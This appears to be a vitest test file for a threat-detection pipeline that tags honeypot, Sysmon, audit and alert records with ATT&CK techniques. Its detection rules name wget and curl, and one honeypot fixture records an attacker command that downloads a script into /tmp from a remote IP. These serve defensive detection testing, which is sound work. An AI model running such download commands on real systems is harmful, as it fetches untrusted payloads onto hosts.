import { existsSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { gunzipSync } from 'node:zlib'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { LogRecord } from '../core/kafka.ts'
import { ruleContext } from '../rules/language/context.ts'
import { naiveRevision } from '../rules/language/naive-revision.ts'
import { parseRules } from '../rules/language/parse.ts'
import type { Revision, RuleState } from '../rules/rule.ts'
import type { SourceSet } from '../schemas/source.ts'
import { builtinSources } from '../schemas/source-set.ts'
import { createAlertProcessor } from './alerts.ts'
import { createCatalogProcessor } from './catalog.ts'
import { createCommandProcessor } from './commands.ts'
import { encodeRows } from './engine/row-binary.ts'
import type { BlockContext, Outcome, Processor } from './processor.ts'
import { createPublish } from './publish.ts'
import { tagId } from './tag-row.ts'
import { createTestProcessor } from './tests.ts'

const rules = `
rule_id: shell-download
rule_version: 3
name: Download by shell
applies_to: [command, process]
match: { field: shell_line, pattern: '\\b(wget|curl)\\b' }
emits:
  - { technique_id: T1105, tactic: TA0011, confidence: 0.8 }
  - { technique_id: T1059, sub_technique_id: T1059.004, tactic: TA0002, confidence: 0.3 }
evidence_fields: [command_text, src_ip]
---
rule_id: alert-technique
rule_version: 1
name: An alert that names its technique
applies_to: [alert]
match: { s: { 'technique_ids|exists': true }, condition: s }
emits: [{ technique_from: technique_ids, confidence: 0.7 }]
evidence_fields: [rule.name]
---
rule_id: test-technique
rule_version: 1
name: A test that names its technique
applies_to: [test]
match: { s: { 'technique_id|exists': true }, condition: s }
emits: [{ technique_from: technique_id, confidence: 0.7 }]
evidence_fields: [technique_id]
---
rule_id: mail-kit
rule_version: 1
name: Phishing kit
applies_to: [email]
match: { field: x_mailer, pattern: kit }
emits: [{ technique_id: T1566, confidence: 0.9 }]
evidence_fields: [x_mailer]
---
title: No technique
id: 7a1e6b3c-0000-4000-8000-000000000001
logsource: { product: windows, category: process_creation }
detection: { s: { Image|endswith: '\\whoami.exe' }, condition: s }
level: low
`

const revision = rulesOf(rules)

function rulesOf(text: string): Revision {
  const parsed = parseRules('rules.yaml', text, ruleContext())
  if (parsed.diagnostics.length > 0) {
    throw new Error(parsed.diagnostics.map(({ line, message }) => `${line}: ${message}`).join('\n'))
  }
  return naiveRevision(parsed.rules)
}

const recordTimeMs = Date.UTC(2026, 10, 20, 12)

function contextOf(states: ReadonlyMap<string, RuleState> = new Map()): BlockContext {
  return { log: 'L', topic: 't', partition: 3, timeMs: recordTimeMs + 5_000, revision, states }
}

function recordOf(value: object | string | Uint8Array | null, offset = 40): LogRecord {
  const bytes =
    value === null || value instanceof Uint8Array
      ? value
      : Buffer.from(typeof value === 'string' ? value : JSON.stringify(value))
  return { offset, timestampMs: recordTimeMs, key: null, value: bytes }
}

const limits = { recordBytesMax: 4_096 }
const commands = createCommandProcessor({
  ...limits,
  sources: builtinSources(),
  keepRaw: 'matches',
})
const alerts = createAlertProcessor(limits)
const tests = createTestProcessor(limits)
const catalog = createCatalogProcessor(limits)
const processors: readonly Processor[] = [commands, alerts, tests, catalog]

function run(
  processor: Processor,
  values: readonly (object | string | Uint8Array | null)[],
  context = contextOf(),
): Outcome {
  return processor.process(
    context,
    values.map((value, index) => recordOf(value, 40 + index)),
  )
}

const download = {
  eventid: 'cowrie.command.input',
  timestamp: '2026-11-20T10:41:07.123456Z',
  session: 'd051258efd62',
  src_ip: '203.0.113.9',
  sensor: 'hp-01',
  input: 'cd /tmp; wget 198.51.100.7/x.sh',
}

test('a matched command is a row with its record, and one tag per emit', () => {
  const { rows, events, deletions, dropped } = run(commands, [download])
  expect({ events, deletions, dropped }).toEqual({ events: 1, deletions: 0, dropped: {} })
  expect(rows.commands).toEqual([
    {
      log: 'L',
      topic: 't',
      partition: 3,
      offset: 40,
      ingest_time: recordTimeMs + 5_000,
      record_time: recordTimeMs,
      event_time: Date.UTC(2026, 10, 20, 10, 41, 7, 123),
      is_time_capped: false,
      is_time_estimated: false,
      event_id: 'L:t:3:40',
      kind: 'command',
      source: 'cowrie',
      product: 'cowrie',
      service: 'ssh',
      category: '',
      identity_id: '',
      attacker_id: '203.0.113.9',
      session_id: 'd051258efd62',
      host: 'hp-01',
      user: '',
      decoy: 'hp-01',
      command_text: 'cd /tmp; wget 198.51.100.7/x.sh',
      raw: JSON.stringify(download),
    },
  ])
  const [rule] = revision.rules
  expect(rows.tags).toHaveLength(2)
  expect(rows.tags?.[0]).toEqual({
    log: 'L',
    topic: 't',
    partition: 3,
    offset: 40,
    ingest_time: recordTimeMs + 5_000,
    tag_id: tagId('command', 'L:t:3:40', 'shell-download', rule?.version ?? '', 'T1105', ''),
    source_kind: 'command',
    source_id: 'L:t:3:40',
    event_time: Date.UTC(2026, 10, 20, 10, 41, 7, 123),
    tagged_time: recordTimeMs + 5_000,
    identity_id: '',
    attacker_id: '203.0.113.9',
    session_id: 'd051258efd62',
    host: 'hp-01',
    user: '',
    decoy: 'hp-01',
    tactic: 'TA0011',
    tactics: ['TA0011'],
    technique_id: 'T1105',
    sub_technique_id: '',
    confidence: 0.8,
    severity: rule?.severity,
    rule_id: 'shell-download',
    rule_version: rule?.version,
    rule_hash: rule?.ruleHash,
    evidence: JSON.stringify({ command_text: download.input, src_ip: '203.0.113.9' }),
    attack_release: '18.1',
    in_release: true,
  })
  expect(rows.tags?.[1]).toMatchObject({
    technique_id: 'T1059',
    sub_technique_id: 'T1059.004',
    tactic: 'TA0002',
    confidence: 0.3,
  })
})

test('the id of a tag is the same for ever', () => {
  expect(tagId('command', 'e1', 'r1', '3~0123abcd', 'T1059', 'T1059.004')).toBe(
    '52f80b3d-a58b-5e36-aa85-62cd02a86658',
  )
  expect(tagId('command', 'e1', 'r1', '3~0123abcd', 'T1059', '')).toBe(
    '00b3cd03-145a-57da-aac7-f239d4355b3d',
  )
  expect(tagId('command', 'é"1', 'r1', '3~0123abcd', 'T1059', '')).toBe(
    '357c8e42-425a-5775-8fff-f771c0ad9dc2',
  )
  expect(tagId('a', 'b","c', 'd', 'e', 'f', '')).not.toBe(tagId('a","b', 'c', 'd', 'e', 'f', ''))
})

test('every one of the six fields of a tag id counts', () => {
  const base: [string, string, string, string, string, string] = ['a', 'b', 'c', 'd', 'e', 'f']
  const ids = base.map((_, at) => tagId(...(base.with(at, 'x') as typeof base)))
  expect(new Set([...ids, tagId(...base)]).size).toBe(7)
})

test('a record that no rule meets is a row without its record, unless all are kept', () => {
  const quiet = { ...download, input: 'id' }
  expect(run(commands, [quiet]).rows.commands?.[0]?.raw).toBe('')
  const all = createCommandProcessor({ ...limits, sources: builtinSources(), keepRaw: 'all' })
  expect(run(all, [quiet]).rows.commands?.[0]?.raw).toBe(JSON.stringify(quiet))
})

test('disabled and clipped rules write less, and say how much', () => {
  const state = { expiresAtMs: null, reason: null, setBy: null, setAtMs: null }
  const disabled = new Map([
    ['shell-download', { ...state, state: 'disabled', confidenceMax: null } as const],
  ])
  const off = run(commands, [download], contextOf(disabled))
  expect(off.rows.tags).toEqual([])
  // One rule is spared one evaluation, whatever it emits.
  expect(off.dropped).toEqual({ disabled: 1 })
  const clip = (confidenceMax: number) =>
    run(
      commands,
      [download],
      contextOf(
        new Map([['shell-download', { ...state, state: 'clipped', confidenceMax } as const]]),
      ),
    )
  expect(clip(0.5).rows.tags?.map(({ confidence }) => confidence)).toEqual([0.5, 0.3])
  expect(clip(0.95).rows.tags?.map(({ confidence }) => confidence)).toEqual([0.8, 0.3])
  expect(clip(0.3).rows.tags?.map(({ confidence }) => confidence)).toEqual([0.3, 0.3])
  expect(clip(0.29)).toMatchObject({ rows: { tags: [] }, dropped: { below_floor: 2 } })
})

test("a match that can be laid at nobody's door is a row and a letter, not a tag", () => {
  const { rows, events, dropped } = run(commands, [{ kind: 'command', command_text: 'wget x' }])
  expect(events).toBe(1)
  expect(rows.tags).toEqual([])
  expect(dropped).toEqual({ no_anchor: 2 })
  expect(rows.dead_letters).toMatchObject([{ code: 'no_anchor', records: 0, offset: 40 }])
})

test('a rule without a technique counts its hits', () => {
  const process = { kind: 'process', host: 'a', fields: { Image: 'C:\\whoami.exe' } }
  expect(run(commands, [process])).toMatchObject({ events: 1, dropped: { no_technique: 1 } })
})

test('an exception in matching costs the tags of that event only', () => {
  const broken: Revision = {
    ...revision,
    match(event) {
      if (event.fields['input'] === 'boom') throw new Error('a bug')
      return revision.match(event)
    },
  }
  const { rows, dropped, ruleErrors } = run(commands, [{ ...download, input: 'boom' }, download], {
    ...contextOf(),
    revision: broken,
  })
  expect([...(ruleErrors ?? [])]).toEqual([['', 'a bug']])
  expect(rows.commands).toHaveLength(2)
  expect(rows.tags).toHaveLength(2)
  expect(dropped).toEqual({ rule_error: 1 })
})

test('an exception on the way costs one record, which becomes a dead letter', () => {
  const sound = builtinSources()
  const broken: SourceSet = {
    ...sound,
    read(record, at) {
      if ('boom' in record) throw new TypeError('a bug')
      return sound.read(record, at)
    },
  }
  const processor = createCommandProcessor({ ...limits, sources: broken, keepRaw: 'matches' })
  const { rows, events } = run(processor, [{ ...download, boom: 1 }, download])
  expect(events).toBe(1)
  expect(rows.commands).toMatchObject([{ offset: 41 }])
  expect(rows.dead_letters).toMatchObject([{ offset: 40, code: 'processing-failed' }])
})

test('a list whose elements have a `toString` of their own joins like any other', () => {
  const record = {
    '@timestamp': '2026-11-20T10:41:08Z',
    event: { category: ['process'], type: ['start'], id: 'e' },
    host: { name: 'web1', os: { type: 'linux' } },
    process: { args: ['sh', { toString: false }] },
  }
  expect(run(commands, [record]).rows.commands).toMatchObject([
    { command_text: 'sh {"toString":false}' },
  ])
})

test('only records that raise an alert are matched', () => {
  const raised = {
    alert_id: 'elastic:9f2a',
    raised_at: '2026-11-20T10:44:58Z',
    rule: { system: 'elastic', id: 'c41d170b', name: 'DCSync', version: '7' },
    severity: 'high',
    technique_ids: ['T1003.006'],
    hosts: ['DC1.example.local', 'ws5'],
    users: ['EXAMPLE\\op'],
    src_ips: ['::ffff:172.18.39.5'],
    extra: { kept: true },
  }
  const update = {
    alert_id: 'elastic:9f2a',
    status: 'closed',
    verdict: 'true_positive',
    clear: ['url'],
  }
  const { rows } = run(alerts, [raised, update])
  expect(rows.alert_events).toMatchObject([
    {
      alert_id: 'elastic:9f2a',
      event_time: Date.UTC(2026, 10, 20, 10, 44, 58),
      is_time_estimated: true,
      raised_at: Date.UTC(2026, 10, 20, 10, 44, 58),
      rule_system: 'elastic',
      rule_version: '7',
      hosts: ['dc1.example.local', 'dc1', 'ws5'],
      users: ['example\\op', 'op'],
      src_ips: ['172.18.39.5'],
      verdict: null,
      cleared: [],
      raw: JSON.stringify(raised),
    },
    {
      raised_at: null,
      status: 'closed',
      verdict: 'true_positive',
      cleared: ['url'],
      event_time: recordTimeMs,
    },
  ])
  expect(rows.tags).toMatchObject([
    {
      source_kind: 'alert',
      source_id: 'elastic:9f2a',
      technique_id: 'T1003',
      sub_technique_id: 'T1003.006',
      tactic: 'TA0006',
      host: 'dc1.example.local',
      user: 'EXAMPLE\\op',
      attacker_id: '172.18.39.5',
      evidence: '{"rule.name":"DCSync"}',
    },
  ])
})

test('a test is a row per update, times and lists normalised, detections side by side', () => {
  const { rows } = run(tests, [
    {
      test_id: 't-17',
      technique_id: 'T1059.001',
      hosts: ['WS5'],
      red_started_at: '2026-11-20T10:41:07Z',
      detections: [
        { result_id: 'd1', asset_id: 'sigma:611eab06', triggered: true, alert_id: 'elastic:9f2a' },
        { result_id: 'd2' },
      ],
    },
    { test_id: 't-17', state: 'validated', event_time: '2026-11-20T11:00:00Z', clear: ['hosts'] },
  ])
  expect(rows.test_events).toMatchObject([
    {
      test_id: 't-17',
      technique_id: 'T1059.001',
      hosts: ['ws5'],
      red_started_at: Date.UTC(2026, 10, 20, 10, 41, 7),
      event_time: recordTimeMs,
      is_time_estimated: true,
      round: null,
      detection_ids: ['d1', 'd2'],
      detection_asset_ids: ['sigma:611eab06', ''],
      detection_alert_ids: ['elastic:9f2a', ''],
      detection_triggered: [true, null],
    },
    { state: 'validated', hosts: [], is_time_estimated: false, cleared: ['hosts'] },
  ])
})

test('half of a surrogate pair becomes the replacement character: no JSON that we store holds one', () => {
  const description = 'a\ud83d b'
  const { rows } = run(catalog, [{ ...asset, entity: { ...asset.entity, description } }])
  expect(JSON.parse(rows.catalog_events?.[0]?.entity ?? '')).toMatchObject({
    description: 'a\ufffd b',
  })
})

test('a change of the catalog is a row with what was sent and what follows from it', () => {
  const entity = { name: 'EDR', asset_type: 'edr', infrastructure_details: { siem: 'x' } }
  const { rows, events } = run(catalog, [
    { kind: 'detection_asset', id: 'edr:1', actor: 'ci', reason: 'new', entity },
    { kind: 'detection_asset', id: 'edr:1', op: 'delete' },
    { kind: 'detection_asset', id: 'edr:2', entity: { ...entity, rule_hash: 'x' } },
  ])
  expect(events).toBe(2)
  expect(rows.catalog_events).toMatchObject([
    {
      kind: 'detection_asset',
      id: 'edr:1',
      op: 'put',
      actor: 'ci',
      reason: 'new',
      event_time: recordTimeMs,
      entity: JSON.stringify(entity),
    },
    { op: 'delete', entity: '{}', derived: '{}' },
  ])
  expect(JSON.parse(rows.catalog_events?.[0]?.derived ?? '')).toMatchObject({
    infrastructure_hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    is_active: true,
  })
  expect(rows.dead_letters).toMatchObject([
    { code: 'invalid-catalog', reason: 'entity.rule_hash: is ours to work out; leave it out' },
  ])
})

test('a validation is signed when there is a key', () => {
  const entity = { asset_id: 'a', validation_result: 'detected' }
  const signed = createCatalogProcessor({ ...limits, integrityKey: 'k', validityDays: 10 })
  const { rows } = run(signed, [{ kind: 'validation', id: 'v', entity }])
  expect(JSON.parse(rows.catalog_events?.[0]?.derived ?? '')).toMatchObject({
    integrity_hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    expires_at: '2026-11-30T12:00:00.000Z',
  })
})

const deep = `${'['.repeat(200)}${']'.repeat(200)}`

test.each([
  ['an empty value', '', 'malformed-json'],
  ['half a record', '{"a": 1', 'malformed-json'],
  ['a list', '[1]', 'not-an-object'],
  ['a number', '7', 'not-an-object'],
  ['null', 'null', 'not-an-object'],
  ['broken UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), 'invalid-utf8'],
  ['a large record', `{"a":"${'x'.repeat(5_000)}"}`, 'too-large'],
  ['a deep record', `{"a":${deep}}`, 'too-deep'],
])('%s is a dead letter on every topic', (_name, value, code) => {
  for (const processor of processors) {
    const { rows, events, deletions } = run(processor, [value])
    expect({ events, deletions }).toEqual({ events: 0, deletions: 0 })
    expect(rows.dead_letters).toMatchObject([{ code, records: 1, offset: 40, last_offset: 40 }])
  }
})

test('a mark of byte order and the replacement character itself are no mistakes', () => {
  const text = JSON.stringify({ ...download, input: 'wget \uFFFD' })
  const { rows } = run(commands, [`\uFEFF${text}`, text])
  expect(rows.dead_letters).toEqual([])
  expect(rows.commands?.[0]).toMatchObject({ command_text: 'wget \uFFFD', raw: text })
})

test('a tombstone is a deletion', () => {
  for (const processor of processors) {
    expect(run(processor, [null])).toMatchObject({ events: 0, deletions: 1 })
  }
})

test('what no source knows, and what breaks its contract, is told why', () => {
  expect(run(commands, [{ a: 1 }]).rows.dead_letters).toMatchObject([{ code: 'unknown-source' }])
  expect(run(commands, [{ kind: 'X', host: 'h' }]).rows.dead_letters).toMatchObject([
    { code: 'envelope' },
  ])
  expect(run(tests, [{}]).rows.dead_letters).toMatchObject([
    { code: 'invalid-test', reason: 'test_id: is missing' },
  ])
  expect(run(alerts, [{}]).rows.dead_letters).toMatchObject([
    { code: 'invalid-alert', reason: 'alert_id: is missing' },
  ])
  expect(run(catalog, [{}]).rows.dead_letters).toMatchObject([{ code: 'invalid-catalog' }])
})

test("Kafka's own time is not believed where it is absurd", () => {
  const quiet = { ...download, timestamp: undefined }
  const value = Buffer.from(JSON.stringify(quiet))
  for (const timestampMs of [-1, recordTimeMs * 2]) {
    const record = { offset: 1, timestampMs, key: null, value }
    const { rows } = commands.process(contextOf(), [record])
    expect(rows.commands).toMatchObject([
      {
        record_time: recordTimeMs + 5_000,
        event_time: recordTimeMs + 5_000,
        is_time_estimated: true,
      },
    ])
  }
})

test('neither mail nor secrets are kept in a dead letter or beside a tag', () => {
  const mail = {
    kind: 'email',
    host: 'mx1',
    x_mailer: 'kit 3',
    subject: 'Your invoice',
    from: 'Jane <jane@example.com>',
    note: 'reply to joe@example.org now',
    fields: { rcpt_to: ['bob@example.net'], attachment_count: 1, filename: 'invoice.pdf' },
  }
  const words = ['invoice', 'jane@', 'joe@', 'bob@']
  const matched = run(commands, [mail])
  expect(matched.rows.tags).toHaveLength(1)
  const raw = matched.rows.commands?.[0]?.raw ?? ''
  expect(raw).toContain('kit 3')
  const refused =
    run(commands, [{ ...mail, event_time: 'never' }]).rows.dead_letters?.[0]?.head ?? ''
  expect(refused).toContain('attachment_count')
  const cut = run(commands, [JSON.stringify(mail).slice(0, -1)]).rows.dead_letters?.[0]?.head ?? ''
  for (const word of words) {
    expect(raw).not.toContain(word)
    expect(refused).not.toContain(word)
    if (word.endsWith('@')) expect(cut).not.toContain(word)
  }
  const login = { password: 'hunter2', api_key: 'k-123', nested: { userPassword: 'hunter2' } }
  expect(run(commands, [login]).rows.dead_letters?.[0]?.head).toBe(
    '{"password":"[redacted]","api_key":"[redacted]","nested":{"userPassword":"[redacted]"}}',
  )
  const torn = '{"user":"op","password":"hunter2 and more","token": abc'
  expect(run(commands, [torn]).rows.dead_letters?.[0]?.head).toBe(
    '{"user":"op","password":[redacted],"token": [redacted]',
  )
})

test('the head of a dead letter is at most 64 KB and ends with a whole character', () => {
  const wide = createTestProcessor({ recordBytesMax: 1_000_000 })
  const { rows } = run(wide, [{ x: '€'.repeat(60_000) }])
  const [letter] = rows.dead_letters ?? []
  expect(letter?.value_bytes).toBe(180_008)
  expect(Buffer.byteLength(letter?.head ?? '')).toBeLessThanOrEqual(65_536)
  expect(letter?.head).toMatch(/€$/)
})

test('hostile text is redacted in linear time', () => {
  const hostile = [
    'a'.repeat(65_000),
    '@'.repeat(65_000),
    'password="'.repeat(6_500),
    'a.'.repeat(32_000),
  ]
  const wide = createTestProcessor({ recordBytesMax: 1_000_000 })
  const { rows } = run(wide, hostile)
  expect(rows.dead_letters).toHaveLength(4)
})

test('tags go out by parent technique and dead letters by topic, the same from rows read back', () => {
  const publish = createPublish({ tags: 'ttp.tags', deadLetters: 'ttp.dead-letters' })
  const { rows } = run(commands, [download, '{'])
  const out = publish(rows)
  expect(out.map(({ topic, key }) => `${topic} ${key}`)).toEqual([
    'ttp.tags T1105',
    'ttp.tags T1059',
    'ttp.dead-letters t',
  ])
  expect(JSON.parse(out[0]?.value ?? '')).toMatchObject({
    tag_id: rows.tags?.[0]?.tag_id,
    event_time: '2026-11-20T10:41:07.123Z',
    evidence: { command_text: download.input },
    tactics: ['TA0011'],
  })
  expect(JSON.parse(out[0]?.value ?? '')).not.toHaveProperty('identity_id')
  expect(JSON.parse(out[2]?.value ?? '')).toMatchObject({ code: 'malformed-json', head: '{' })
  expect(publish(structuredClone(rows))).toEqual(out)
})

/** Every record is a row that its table can hold, a dead letter or a deletion, whatever it holds. */
function checkLaws(processor: Processor, records: readonly LogRecord[]): void {
  const outcome = processor.process(contextOf(), records)
  const dead = (outcome.rows.dead_letters ?? []).reduce((sum, { records: n }) => sum + n, 0)
  expect(outcome.events + dead + outcome.deletions).toBe(records.length)
  expect(outcome.rows[processor.table] ?? []).toHaveLength(outcome.events)
  expect(processor.process(contextOf(), records)).toEqual(outcome)
  // Each throws for a value that its column cannot hold.
  const { rows } = outcome
  encodeRows('commands', rows.commands ?? [])
  encodeRows('alert_events', rows.alert_events ?? [])
  encodeRows('test_events', rows.test_events ?? [])
  encodeRows('catalog_events', rows.catalog_events ?? [])
  encodeRows('tags', rows.tags ?? [])
  encodeRows('dead_letters', rows.dead_letters ?? [])
}

const anyBytes = fc.oneof(
  fc.constant(null),
  fc.uint8Array({ maxLength: 200 }),
  fc.string({ unit: 'binary', maxLength: 200 }).map((text) => new Uint8Array(Buffer.from(text))),
  fc.json({ maxDepth: 5 }).map((text) => new Uint8Array(Buffer.from(text))),
)

test('no bytes make a processor throw, and the same bytes give the same rows', () => {
  fc.assert(
    fc.property(fc.array(anyBytes, { maxLength: 8 }), (values) => {
      const records = values.map((value, index) => recordOf(value, index))
      for (const processor of processors) checkLaws(processor, records)
    }),
    { numRuns: 300 },
  )
})

/** Replaces, removes or adds members of a record at random. */
function mutated(record: object): fc.Arbitrary<object> {
  const value = fc.oneof(
    fc.jsonValue({ maxDepth: 3 }),
    fc.constantFrom('', '-', '2026-11-20T10:41:07Z', 1e300, -1, 'T1105', '::1', [[]], {}),
  )
  const keys = Object.keys(record)
  const names = fc.constantFrom(
    ...keys,
    'kind',
    'fields',
    'event_time',
    '__proto__',
    'winlog',
    'Event',
  )
  return fc
    .array(fc.tuple(names, fc.option(value, { nil: undefined })), { maxLength: 4 })
    .map((changes) => {
      const entries = new Map<string, unknown>(Object.entries(record))
      for (const [key, change] of changes) entries.set(key, change)
      return JSON.parse(JSON.stringify(Object.fromEntries(entries)))
    })
}

const envelope = { kind: 'command', host: 'h', command_text: 'wget x', fields: { uid: 0 } }
const alert = {
  alert_id: 'a',
  raised_at: '2026-11-20T10:44:58Z',
  technique_ids: ['T1105'],
  hosts: ['h'],
}
const purple = { test_id: 't', technique_id: 'T1105', hosts: ['h'], round: 1, clear: ['name'] }
const asset = { kind: 'detection_asset', id: 'a', entity: { name: 'a', asset_type: 'b' } }

test.each([
  ['a Cowrie command', commands, download],
  ['an envelope', commands, envelope],
  ['an alert', alerts, alert],
  ['a test', tests, purple],
  ['an asset', catalog, asset],
])('%s, whatever is done to it, is accounted for', (_name, processor, record) => {
  fc.assert(
    fc.property(fc.array(mutated(record), { maxLength: 5 }), (records) => {
      checkLaws(
        processor,
        records.map((one, index) => recordOf(one, index)),
      )
    }),
    { numRuns: 200 },
  )
})

/** A nested record with some of its members, at any depth, replaced by anything. */
function nestedMutated(record: object): fc.Arbitrary<unknown> {
  const value = fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.constantFrom('', '-', 1e300, [[]], {}))
  return fc
    .array(fc.tuple(fc.array(fc.nat(), { maxLength: 4 }), value), { maxLength: 4 })
    .map((edits) => {
      const copy: Record<string, unknown> = structuredClone({ ...record })
      for (const [steps, replacement] of edits) {
        let target = copy
        for (const step of steps) {
          const key = Object.keys(target)[step % Math.max(1, Object.keys(target).length)] ?? ''
          const next = target[key]
          if (typeof next !== 'object' || next === null) {
            if (key !== '') target[key] = replacement
            break
          }
          // Checked: a non-null object one line above.
          target = next as Record<string, unknown>
        }
      }
      return copy
    })
}

const channel = 'Microsoft-Windows-Sysmon/Operational'
const eventData = { UtcTime: '2026-11-20 10:41:07.805', Image: 'C:\\x.exe', CommandLine: 'curl x' }

test.each([
  [
    'EVTX',
    {
      Event: {
        System: {
          Channel: channel,
          EventID: { '#text': 1 },
          Provider: { '#attributes': { Name: 'x' } },
          TimeCreated: { '#attributes': { SystemTime: '2026-11-20T10:41:08Z' } },
          EventRecordID: 4,
          Computer: 'ws5',
        },
        EventData: { ...eventData, Data: [{ '@Name': 'a', '#text': 'b' }] },
      },
    },
  ],
  [
    'Winlogbeat',
    {
      '@timestamp': '2026-11-20T10:41:08Z',
      winlog: { channel, event_id: '1', record_id: 4, computer_name: 'ws5', event_data: eventData },
      process: { command_line: 'curl x', parent: { executable: 'x' } },
    },
  ],
  [
    'LAUREL',
    {
      ID: '1795171267.720:348501',
      NODE: 'web1',
      SYSCALL: { SYSCALL: 'execve', exe: '/usr/bin/curl', ses: 3, PPID: { exe: '/bin/sh' } },
      EXECVE: { ARGV: ['curl', 'x'] },
      PATH: [{ name: 'a' }, { name: 'b' }],
    },
  ],
  [
    'Auditbeat',
    {
      '@timestamp': '2026-11-20T10:41:08Z',
      host: { name: 'web1' },
      auditd: { message_type: 'syscall', sequence: 1, data: { syscall: 'execve' }, paths: [{}] },
      process: { args: ['curl', 'x'], executable: '/usr/bin/curl' },
      tags: ['k'],
    },
  ],
  [
    'ECS',
    {
      '@timestamp': '2026-11-20T10:41:08Z',
      event: { category: ['process'], type: ['start'], id: 'e' },
      host: { name: 'web1', os: { type: 'linux' } },
      process: { args: ['curl', 'x'] },
      url: { original: '/%2e' },
    },
  ],
])('a record of %s, whatever is done inside it, is accounted for', (_name, record) => {
  expect(run(commands, [record]).rows.commands?.[0]).toMatchObject({ is_time_estimated: false })
  fc.assert(
    fc.property(fc.array(nestedMutated(record), { maxLength: 4 }), (records) => {
      checkLaws(
        commands,
        records.map((one, index) => recordOf(JSON.stringify(one), index)),
      )
    }),
    { numRuns: 200 },
  )
})

const recording = fileURLToPath(
  new URL('../../shared/data/recordings/SDWIN-201018195009.ndjson.gz', import.meta.url),
)
const isThere = existsSync(recording)
if (!isThere) process.stderr.write(`skipped: no recording at ${recording}\n`)

test.skipIf(!isThere)('recorded events with bytes changed at random are accounted for', () => {
  const lines = gunzipSync(readFileSync(recording)).toString().trim().split('\n').slice(0, 60)
  const wide = createCommandProcessor({
    recordBytesMax: 1_000_000,
    sources: builtinSources(),
    keepRaw: 'matches',
  })
  fc.assert(
    fc.property(
      fc.array(fc.tuple(fc.nat(), fc.nat({ max: 255 })), { maxLength: 10 }),
      fc.nat({ max: lines.length - 1 }),
      (edits, line) => {
        const bytes = Buffer.from(lines[line] ?? '')
        for (const [at, byte] of edits) bytes[at % bytes.length] = byte
        checkLaws(wide, [recordOf(new Uint8Array(bytes))])
      },
    ),
    { numRuns: 300 },
  )
})
